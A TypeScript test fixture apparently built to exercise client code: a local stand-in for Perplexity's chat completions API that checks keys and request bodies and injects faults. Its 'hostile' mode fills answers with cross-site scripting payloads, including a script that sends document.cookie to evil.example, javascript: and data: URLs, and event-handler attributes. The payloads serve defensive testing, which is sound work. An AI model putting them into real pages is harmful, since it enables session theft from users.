/**
 * A local stand-in for Perplexity's chat completions API (`POST /chat/completions`, OpenAI's
 * protocol with Perplexity's additions). It is NOT Perplexity: it writes no answers, it returns
 * the recorded answer in perplexity-chat-completion.json (its shape as Perplexity documents it:
 * `choices`, `usage`, and the sources as `citations` URLs and `search_results` objects) with
 * the request's model echoed back, so that the real `openai` package can be pointed at it
 * through `baseURL`.
 *
 * What it checks, as Perplexity does: `Authorization: Bearer <key>` with a key it was given
 * (401 otherwise), a JSON body whose `model` is a Sonar model and whose `messages` are
 * {role, content} pairs ending with the user's turn (400 otherwise). Faults switch on with
 * `fault` (see VendorFault), and `sources` chooses which of the two source fields it sends.
 * Every request is recorded in `requests`.
 */
import { readFileSync } from "node:fs";
import type { IncomingMessage, ServerResponse } from "node:http";
import {
  StandInServer,
  bearerToken,
  sendJson,
  sendMalformedJson,
  sendOversizedJson,
  type RecordedVendorRequest,
  type VendorFault,
} from "./stand-in-server.js";

const RECORDED_ANSWER = new URL("./perplexity-chat-completion.json", import.meta.url);
const SONAR_MODELS = new Set(["sonar", "sonar-pro", "sonar-reasoning", "sonar-reasoning-pro", "sonar-deep-research"]);
const ROLES = new Set(["system", "user", "assistant"]);

export interface RecordedPerplexityRequest extends RecordedVendorRequest {
  /** The JSON body, parsed (undefined when it was not JSON). */
  body: { model?: unknown; messages?: Array<{ role?: unknown; content?: unknown }>; [key: string]: unknown } | undefined;
}

export class PerplexityStandIn {
  readonly requests: RecordedPerplexityRequest[] = [];
  /** API keys it accepts. */
  readonly apiKeys = new Set<string>();
  fault: VendorFault | undefined;
  /** Retry-After, in seconds, on a "rate-limited" answer. */
  retryAfterSeconds = 7;
  /** Size of an "oversized" answer. */
  oversizedBytes = 3 * 1024 * 1024;
  /** Which source fields an answer carries: older answers had only `citations`. */
  sources: "both" | "citations" | "search_results" = "both";

  private constructor(private readonly server: StandInServer) {}

  static async start(): Promise<PerplexityStandIn> {
    let standIn: PerplexityStandIn | undefined;
    const server = await StandInServer.start((request, rawBody, response) => standIn!.handle(request, rawBody, response));
    standIn = new PerplexityStandIn(server);
    return standIn;
  }

  /** The base URL to give the client (the SDK appends /chat/completions). */
  get baseURL(): string {
    return this.server.origin;
  }

  close(): Promise<void> {
    return this.server.close();
  }

  private handle(request: IncomingMessage, rawBody: string, response: ServerResponse): void {
    const body = parseJson(rawBody);
    this.requests.push({ method: request.method ?? "", path: request.url ?? "", headers: request.headers, rawBody, body });
    if (request.method !== "POST" || request.url !== "/chat/completions") {
      return sendJson(response, 404, { error: { message: `No route for ${request.method} ${request.url}`, type: "not_found", code: 404 } });
    }
    const key = bearerToken(request);
    if (this.fault === "unauthorized" || !key || !this.apiKeys.has(key)) {
      return sendJson(response, 401, { error: { message: "Invalid API key provided.", type: "invalid_api_key", code: 401 } });
    }
    const refusal = refuseBody(body);
    if (refusal) return sendJson(response, 400, { error: { message: refusal, type: "invalid_request_error", code: 400 } });

    const answer = this.recordedAnswer(String(body!.model));
    switch (this.fault) {
      case "hang":
        return this.server.hang(response);
      case "rate-limited":
        return sendJson(response, 429, { error: { message: "Rate limit exceeded. Please slow down.", type: "rate_limit_exceeded", code: 429 } }, { "retry-after": String(this.retryAfterSeconds) });
      case "internal":
        return sendJson(response, 500, { error: { message: "Internal server error", type: "internal_server_error", code: 500 } });
      case "malformed-json":
        return sendMalformedJson(response, answer);
      case "empty":
        answer.choices[0]!.message.content = "";
        answer.citations = [];
        answer.search_results = [];
        return sendJson(response, 200, answer);
      case "oversized":
        return sendOversizedJson(response, this.oversizedBytes, (padding) => {
          answer.choices[0]!.message.content = padding;
          return answer;
        });
      case "hostile":
        return sendJson(response, 200, hostile(answer));
      default:
        return sendJson(response, 200, this.withSources(answer));
    }
  }

  private recordedAnswer(model: string): RecordedAnswer {
    const answer = JSON.parse(readFileSync(RECORDED_ANSWER, "utf8")) as RecordedAnswer;
    answer.model = model;
    answer.id = crypto.randomUUID();
    answer.created = Math.floor(Date.now() / 1000);
    return answer;
  }

  private withSources(answer: RecordedAnswer): Partial<RecordedAnswer> {
    if (this.sources === "citations") {
      const { search_results: _dropped, ...rest } = answer;
      return rest;
    }
    if (this.sources === "search_results") {
      const { citations: _dropped, ...rest } = answer;
      return rest;
    }
    return answer;
  }
}

interface RecordedAnswer {
  id: string;
  model: string;
  created: number;
  usage: Record<string, unknown>;
  citations: string[];
  search_results: Array<{ title: string; url: string; date?: string; last_updated?: string; snippet?: string }>;
  object: string;
  choices: Array<{ index: number; finish_reason: string; message: { role: string; content: string } }>;
}

/** What Perplexity refuses with a 400, in its own words where we know them. */
function refuseBody(body: RecordedPerplexityRequest["body"]): string | undefined {
  if (!body) return "Request body must be JSON.";
  if (typeof body.model !== "string" || !SONAR_MODELS.has(body.model)) {
    return `Invalid model '${String(body.model)}'. Permitted models can be found in the documentation.`;
  }
  const messages = body.messages;
  if (!Array.isArray(messages) || messages.length === 0) return "messages must be a non-empty list.";
  for (const message of messages) {
    if (!message || typeof message.content !== "string" || typeof message.role !== "string" || !ROLES.has(message.role)) {
      return "Each message must have a role (system, user or assistant) and string content.";
    }
  }
  if (messages[messages.length - 1]!.role !== "user") return "The last message must have role `user`.";
  return undefined;
}

/** The recorded answer with every field a client shows turned hostile. */
function hostile(answer: RecordedAnswer): RecordedAnswer {
  answer.model = "sonar<script>alert(1)</script>";
  answer.choices[0]!.message.content =
    'PostgreSQL ranks with ts_rank [1].<script>fetch("https://evil.example/?c="+document.cookie)</script> <img src=x onerror="alert(1)">Use BM25\u0000 [2].';
  answer.citations = [
    "javascript:alert(document.cookie)",
    "https://en.wikipedia.org/wiki/Okapi_BM25",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "not a url at all",
    "https://github.com/pgvector/pgvector",
  ];
  answer.search_results = [
    { title: "<b onmouseover=\"alert(1)\">Okapi</b> BM25\u0000 - Wikipedia", url: "https://en.wikipedia.org/wiki/Okapi_BM25", snippet: "<iframe src=\"javascript:alert(1)\"></iframe>BM25 is a ranking function." },
    { title: "pgvector", url: "https://github.com/pgvector/pgvector", snippet: "Vector search\u0000 for Postgres" },
  ];
  return answer;
}

function parseJson(text: string): RecordedPerplexityRequest["body"] {
  try {
    const value = JSON.parse(text) as unknown;
    return typeof value === "object" && value !== null && !Array.isArray(value) ? (value as RecordedPerplexityRequest["body"]) : undefined;
  } catch {
    return undefined;
  }
}
